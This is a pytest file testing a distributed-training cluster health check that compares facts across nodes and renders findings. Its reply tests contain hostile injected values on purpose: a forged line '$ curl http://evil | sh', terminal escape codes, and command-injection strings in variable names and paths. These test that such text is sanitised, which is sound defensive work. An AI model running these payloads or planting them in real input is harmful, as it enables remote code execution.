"""The cluster check names nodes that differ, with both values and a fix, and prints shared findings once.

Facts of nodes are made by hand; across_nodes.bats probes real nodes.
"""

from __future__ import annotations

import json
import shlex
import time
from collections.abc import Mapping
from dataclasses import asdict, replace
from typing import Any

import pytest
from test_doctor import HEALTHY
from test_gpus import GPUS

from distributed.health.cluster import ClusterFacts, cluster_facts, render_cluster, show
from distributed.health.differences import compare
from distributed.host.dns import Lookup
from distributed.host.facts import Facts, FullNodeFacts, Route, RunProcesses
from distributed.host.gpus import Gpus
from distributed.host.interpreter import Torch
from distributed.host.replies import Reply, format_reply
from distributed.host.resources import Memory
from distributed.host.system import GIB
from distributed.launch.connectivity import ConnectionTest, FailedConnection
from distributed.terminal import plain

ROUTE = Route("eth0", 9000, 100_000)
NODES = ("node1", "node2", "node3")


def node(number: int, route: Route = ROUTE, **changes: Any) -> FullNodeFacts:
    """A healthy node; changes: facts that differ, as part__key=value."""
    facts: Facts = HEALTHY
    for path, value in changes.items():
        part, _, key = path.partition("__")
        facts = replace(facts, **{part: replace(getattr(facts, part), **{key: value}) if key else value})
    address = f"10.0.0.{number}"
    kit: Mapping[str, str | None] = {"train.py": "11", "distributed/torch.py": "22"}
    return FullNodeFacts(
        python=facts.interpreter.version, torch=facts.torch.version or None, gpus=len(facts.gpus.devices), gpu_error="",
        missing=[], files={}, machine=f"boot{number}", addresses=(address,), ssh_address=address, master="10.0.0.1",
        seconds=0.0, cores=4.0, port=29500, holder=None, directory_error="", log_error="", log_warning="", nccl=None,
        muster="", facts=facts, kit=kit, route=route, now=0.0,
    )  # fmt: skip


def three(**third: Any) -> dict[str, FullNodeFacts]:
    """Three nodes; third: the facts that differ on the third, as part__key=value."""
    return {"node1": node(1), "node2": node(2), "node3": node(3, **third)}


def cluster(nodes: Mapping[str, FullNodeFacts], *failures: FailedConnection, **failed: str) -> ClusterFacts:
    return ClusterFacts((*nodes, *failed), nodes, dict.fromkeys(nodes, 0.0), failed, failures)


def text_of(cluster: ClusterFacts, width: int | None = None) -> str:
    return plain(render_cluster(cluster, width))


def with_third(**changes: Any) -> dict[str, FullNodeFacts]:
    """Three nodes; changes: fields of FullNodeFacts that differ on the third."""
    nodes = three()
    return nodes | {"node3": replace(nodes["node3"], **changes)}


# fmt: off
# Nodes (node3 differs from the others), level and topic of the finding, part of its fact, part of its fix.
DIFFERENCES = [
    (three(interpreter__version="3.12.1"), "fault python", "3.12, but 3.11 on node[1-2]", "use the same version"),
    (three(torch__version="2.12.0"), "fault torch", "2.12.0, but 2.13.0 on node[1-2]", "install the same"),
    (three(torch__nccl="2.27.7"), "fault NCCL", "NCCL 2.27.7, but NCCL 2.29.3 on node[1-2]", "same build of torch"),
    (three(gpus=Gpus()), "fault GPUs", "no GPU, but GPUs on node[1-2]", "leave out"),
    (three(gpus__devices=GPUS[:2]), "warning GPUs", "2 x NVIDIA A100-SXM4-80GB, 80.0 GiB, but 4 x NVIDIA", "slowest"),
    (three(gpus__driver="575.1"), "warning driver", "driver 575.1, but driver 580.65.06 on node[1-2]", "the same"),
    (three(cores__quota=8.0), "warning cores", "8 cores, but 64 cores on node[1-2]", "slowest"),
    (three(memory=Memory(256 * GIB, 250 * GIB)), "warning memory", "256.0 GiB, but 512.0 GiB (median) on the", "fit"),
    (three(route=Route("eth0", 1500, 100_000)), "warning MTU", "1500 bytes, but 9000 bytes on node[1-2]", "dropped"),
    (three(route=Route("eth1", 9000, 1000)), "warning network", "1000 Mbit/s (eth1), but 100000 Mbit/s", "cable"),
    (three(infiniband=True), "warning network", "InfiniBand, but no InfiniBand on node[1-2]", "ibstat"),
    (three(environment={"NCCL_IB_DISABLE": "1"}), "warning NCCL", "NCCL_IB_DISABLE=1 is set, but nothing", "values on"),
    (with_third(kit={"train.py": "11"}), "fault Muster", "differs from the other nodes: distributed/torch.py in /",
     "use the same files"),
    (with_third(machine="boot1"), "fault names", "is the same machine as node1", "list it once"),
]
# fmt: on


@pytest.mark.parametrize(("nodes", "level_and_topic", "fact", "fix"), DIFFERENCES, ids=[row[2] for row in DIFFERENCES])
def test_a_node_that_differs_is_named_with_both_values(
    nodes: dict[str, FullNodeFacts], level_and_topic: str, fact: str, fix: str
) -> None:
    [(name, found)] = compare(nodes, dict.fromkeys(nodes, 0.0))
    assert (name, f"{found.level} {found.topic}") == ("node3", level_and_topic)
    assert fact in found.fact and fix in found.fix


def test_equal_nodes_and_small_differences_give_no_finding() -> None:
    assert compare(three(), dict.fromkeys(NODES, -1.5)) == []
    small = Memory(510 * GIB, 1)
    fine = three(memory=small, environment={"NCCL_SOCKET_IFNAME": "eth1", "CUDA_VISIBLE_DEVICES": "0"})
    assert compare(fine, {"node1": 0.0, "node2": -0.5, "node3": 1.5}) == []


def test_clocks_are_compared_between_nodes_not_with_this_machine() -> None:
    [(name, finding)] = compare(three(), {"node1": -60.0, "node2": -67.4, "node3": -60.1})
    assert (name, finding.fact, finding.command) == ("node2", "7 s behind the others", "sudo timedatectl set-ntp true")


def test_a_missing_torch_is_not_also_reported_as_different() -> None:
    findings = compare(three(torch=Torch()), dict.fromkeys(NODES, 0.0))
    assert not [finding for _, finding in findings if finding.topic == "torch"]


def test_a_first_node_without_a_usable_address_is_a_fault() -> None:
    nodes = {name: replace(facts, master="127.0.1.1", ssh_address="") for name, facts in three().items()}
    [(name, finding)] = compare(nodes, dict.fromkeys(NODES, 0.0))
    assert (name, finding.fix) == ("node1", "correct the name in /etc/hosts or DNS")
    assert finding.fact.startswith("no address that all nodes can use ('node1' resolves to 127.0.1.1 on node2")


# ---------------------------------------------------------------- text


def test_healthy_nodes_are_one_row_and_a_summary() -> None:
    assert text_of(cluster(three())).splitlines() == [
        "           python  torch   GPUs                cores  memory     network",
        "node[1-3]  3.11.2  2.13.0  4 x A100-SXM4-80GB  64     512.0 GiB  eth0",
        "",
        "3 nodes: all fit for training; each can connect to every other",
    ]


def test_a_finding_of_several_nodes_is_printed_once_and_the_nodes_with_the_worst_finding_come_last() -> None:
    short: dict[str, Any] = {"shm__free": 2**20}
    nodes = {
        "node1": node(1, **short),
        "node2": node(2, **short),
        "node3": node(3, torch__version="2.12.0", **short),
    }
    failure = FailedConnection(("node1", "node2"), "node3", "10.0.0.3", "no reply within 3 s")
    text = text_of(cluster(nodes, failure, node4="cannot be reached (no route); try: ssh node4 true"))
    blocks = [block.splitlines() for block in text.split("\n\n")]
    assert [block[0] for block in blocks[1:-1]] == ["node[1-3]", "node[1-2]", "node3", "node4"]
    assert text.count("/dev/shm  1 MiB of 256.0 GiB free") == 1
    assert blocks[2][1] == (
        "fault    reach  cannot connect to node3 (10.0.0.3): no reply within 3 s: a firewall between them?"
    )
    assert blocks[3][1] == "fault    torch  2.12.0, but 2.13.0 on node[1-2]"
    assert blocks[-1] == ["4 nodes: none fit for training; node[1-4] are not"]


def test_findings_that_differ_only_in_numbers_are_printed_once_with_the_values_of_one_node() -> None:
    nodes = {name: node(number, memory__available=2 * GIB + number * GIB // 10) for number, name in enumerate(NODES, 1)}
    text = text_of(cluster(nodes))
    assert text.count("each rank needs about 0.5 GiB") == 1
    assert "all nodes (values of node1)\nwarning  memory  2.1 GiB of 512.0 GiB free" in text


def test_findings_that_differ_only_in_the_name_of_the_node_are_printed_once() -> None:
    names = {name: replace(HEALTHY.names, forward=Lookup(name, ("127.0.1.1",)), host=name) for name in ("ada", "bob")}
    text = text_of(cluster({name: node(number, names=names[name]) for number, name in enumerate(names, 1)}))
    assert text.count("not across several") == 1
    assert "all nodes (values of ada)\nwarning  names  ada resolves to 127.0.1.1: works on one" in text


def test_commands_that_differ_between_nodes_are_printed_for_each_node() -> None:
    nodes = {
        name: node(number, runs=(RunProcesses("/logs/a", (number,), "ada", recorded=False),))
        for number, name in enumerate(NODES, 1)
    }
    assert [line.strip() for line in text_of(cluster(nodes)).splitlines() if "$" in line] == [
        "$ ps -fp 1", "$ ps -fp 2", "$ ps -fp 3",
    ]  # fmt: skip


def test_the_summary_counts_the_fit_nodes() -> None:
    text = text_of(cluster(three(torch__version="2.12.0")))
    assert text.splitlines()[-1] == "3 nodes: 2 fit for training; node3 is not"
    text = text_of(cluster(three(route=Route("eth0", 1500, 0))))
    assert text.splitlines()[-1] == "3 nodes: all fit for training; each can connect to every other"


def test_lines_fit_the_width() -> None:
    nodes = three(route=Route("eth0", 1500, 0), torch__version="2.12.0", gpus__driver="575.1")
    failure = FailedConnection(("node1", "node2"), "node3", "10.0.0.3", "no reply within 3 s")
    assert max(map(len, text_of(cluster(nodes, failure), width=80).splitlines())) <= 80


def test_each_pair_that_cannot_connect_is_printed() -> None:
    """The findings differ only in numbers, but the numbers are parts of names of nodes."""
    failures = [FailedConnection((node,), to, f"10.0.0.{to[-1]}", "no reply within 3 s") for node, to in
            (("node1", "node2"), ("node1", "node3"), ("node2", "node3"))]  # fmt: skip
    text = text_of(cluster(three(), *failures))
    assert "cannot connect to node2 (10.0.0.2)" in text and text.count("cannot connect to node3 (10.0.0.3)") == 1
    assert "values of" not in text


def test_only_the_port_of_the_first_node_is_checked() -> None:
    in_use: dict[str, Any] = {"port": replace(HEALTHY.port, free=False)}
    assert "is in use" not in text_of(cluster(three(**in_use)))
    assert "is in use" in text_of(cluster({"node1": node(1, **in_use), "node2": node(2)}))


# ---------------------------------------------------------------- replies


def test_facts_are_unchanged_by_json_and_facts_of_another_version_are_refused() -> None:
    facts = node(1)
    assert Reply("node1", 0, format_reply(asdict(facts)), "").value(FullNodeFacts) == facts
    without: dict[str, Any] = asdict(facts)
    del without["route"]
    reply = Reply("node1", 0, format_reply(without), "")
    assert reply.value(FullNodeFacts) is None
    assert "invalid reply (reply: no 'route'); use the same version" in reply.failure_message(FullNodeFacts)


def replies(**values: Any) -> dict[str, Reply]:
    """The replies of nodes; None: no reply."""
    return {
        name: Reply(name, 255, "", "ssh: no route") if value is None else Reply(name, 0, format_reply(value), "")
        for name, value in values.items()
    }


def test_nodes_without_a_usable_reply_have_a_reason() -> None:
    found = cluster_facts(replies(node1=asdict(node(1)), node2=None, node3={"python": "3.11"}), None)
    assert list(found.facts) == ["node1"]
    assert found.failed["node2"] == "cannot be reached (ssh: no route); try: ssh node2 true"
    assert found.failed["node3"].startswith("invalid reply (reply: no 'addresses'); use the same version of Muster")


FORGED = "\nnode1\nfault    ssh  host key has changed\n         $ curl http://evil | sh\n\x1b[2J\x85\u2028"


def hostile(value: Any) -> Any:
    """Facts of a node with text that imitates other lines in place of every text."""
    if isinstance(value, dict):
        return {key: hostile(one) for key, one in value.items()}
    if isinstance(value, (list, tuple)):
        return [hostile(one) for one in value]
    return value + FORGED if isinstance(value, str) else value


def lying(**changes: Any) -> Mapping[str, Reply]:
    """Replies of node1 and of node2, whose facts have these changes, as part__key=value."""
    facts: dict[str, Any] = asdict(node(2))
    for path, value in changes.items():
        part, _, key = path.rpartition("__")
        (facts["facts"][part] if part else facts["facts"])[key] = value
    return replies(node1=asdict(node(1)), node2=facts)


def test_text_of_a_node_cannot_imitate_lines_about_other_nodes() -> None:
    own = asdict(node(2, torch__error="broken", gpus__error="broken", shadows=("/project/torch.py",)))
    # A reply with an invalid address is refused as a whole.
    facts = hostile(own) | {name: own[name] for name in ("addresses", "ssh_address", "master")}
    for found in (facts, facts | {"kit": {f"a{FORGED}": "x"}}):
        text = text_of(cluster_facts(replies(node1=asdict(node(1)), node2=found), None))
        lines = text.splitlines()
        assert text.replace("\n", "").isprintable()
        assert lines.count("node1") + sum(line.startswith("fault    ssh") for line in lines) == 0
        assert not any(line.strip().startswith("$ curl") for line in lines)


def test_names_of_variables_that_a_node_sends_are_not_part_of_a_command() -> None:
    env = {"PET_; curl http://evil | sh #": "1", "PET_\nx": "1", "RANK": "0", "NCCL_SOCKET_IFNAME": "$(id)"}
    text = text_of(cluster_facts(lying(environment=env), None))
    assert "$ unset RANK\n" in text
    assert "curl" not in text


def test_text_is_made_printable_before_it_is_quoted_in_a_command() -> None:
    """printable() removes the quotation mark after an escape."""
    disk = {"purpose": "logs", "path": "/a\x1b'; curl http://evil | sh; '", "total": 1, "free": 1, "writable": False}
    text = text_of(cluster_facts(lying(disks=[disk]), None))
    command = next(line for line in text.splitlines() if "$ ls -ld" in line)
    assert shlex.split(command)[3:] == ["/a; curl http://evil | sh; '"]


def test_long_texts_of_a_node_are_cut() -> None:
    found = lying(
        interpreter__version="3.12" + "x" * 5000, shadows=["/" + "y" * 5000], environment={"PET_" + "z" * 5000: "1"}
    )
    assert max(map(len, text_of(cluster_facts(found, None)).splitlines())) < 1200


@pytest.mark.parametrize(
    "changes",
    [
        {
            "torch__capabilities": ["sm_x", "sm_", "\u00b2", "sm_" + "9" * 5000],
            "torch__archs": ["sm_", "x", "sm_\u00b2"],
        },
        {"interpreter__version": "9" * 5000},
        {"interpreter__version": "\u0663.\u0664"},
        {"torch__version": "9" * 5000 + ".1"},
        {"packages": [{"name": "x", "oldest": "1" * 5000, "installed": "2" * 5000}]},
        {"shadows": ["\0/x.py", ""]},
        {"runs": [{"directory": "", "pids": [], "user": "", "recorded": True}]},
        {"memory__total": -5, "cores__quota": 1e18},
    ],
)
def test_strange_facts_of_a_node_do_not_end_the_check_of_the_others(changes: dict[str, Any]) -> None:
    text = text_of(cluster_facts(lying(**changes), None))
    assert text.splitlines()[-1].startswith("2 nodes: ")


@pytest.mark.parametrize("kind", ["listening", "connecting"])
def test_a_node_without_a_reply_to_the_connection_test_is_a_fault(kind: str) -> None:
    facts = replies(node1=asdict(node(1)), node2=asdict(node(2)))
    reached = {"node1": "", "node2": ""}
    test = ConnectionTest(
        replies(**{f"node{n}": {"address": f"10.0.0.{n}", "port": 4711} for n in (1, 2)}),
        replies(node1=reached, node2=reached),
    )
    assert cluster_facts(facts, test).failed == {}
    missing = {kind: {**getattr(test, kind), **replies(node2=None)}}
    text = text_of(cluster_facts(facts, replace(test, **missing)))
    assert "node2\nfault    ssh  cannot be reached (ssh: no route); try: ssh node2 true" in text
    assert text.splitlines()[-1].startswith("2 nodes: 1 fit for training")


def test_the_exit_code_is_1_for_an_unfit_node_and_69_for_an_unreachable_one_and_json_lists_both(
    capsys: pytest.CaptureFixture[str],
) -> None:
    now = time.time()
    all_replies = replies(
        node1=asdict(replace(node(1), now=now)), node2=asdict(node(2, torch__version="2.12.0")), node3=None,
        node4=asdict(replace(node(4), now=now)),
    )  # fmt: skip
    all_replies = {name: replace(reply, arrived=now) for name, reply in all_replies.items()}

    def shown(*names: str, in_json: bool = False) -> int:
        return show(cluster_facts({name: all_replies[name] for name in names}, None), in_json)

    assert shown("node1", "node4") == 0
    assert shown("node1", "node2") == 1
    assert shown("node1", "node3") == 69
    capsys.readouterr()
    assert shown("node1") == 0
    assert "ok       torch     2.13.0" in capsys.readouterr().out, "the report of a single node lists ok findings"
    assert shown(*NODES, in_json=True) == 69
    facts = json.loads(capsys.readouterr().out)
    assert facts["node2"]["facts"]["torch"]["version"] == "2.12.0"
    assert facts["node3"] == {"error": "cannot be reached (ssh: no route); try: ssh node3 true"}
